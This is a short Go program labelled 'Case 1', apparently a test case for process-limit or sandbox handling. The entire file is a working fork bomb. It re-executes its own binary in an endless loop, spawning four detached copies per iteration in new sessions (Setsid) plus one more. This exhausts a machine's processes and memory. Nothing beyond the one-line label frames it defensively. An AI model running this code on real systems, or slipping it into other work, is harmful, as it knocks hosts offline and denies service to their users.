// Case 1: a fork bomb with many threads in each process.
package main

import (
	"os"
	"os/exec"
	"syscall"
)

func main() {
	self, _ := os.Executable()
	for {
		for i := 0; i < 4; i++ {
			go func() {
				next := exec.Command(self)
				next.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
				_ = next.Start()
			}()
		}
		next := exec.Command(self)
		_ = next.Start()
	}
}
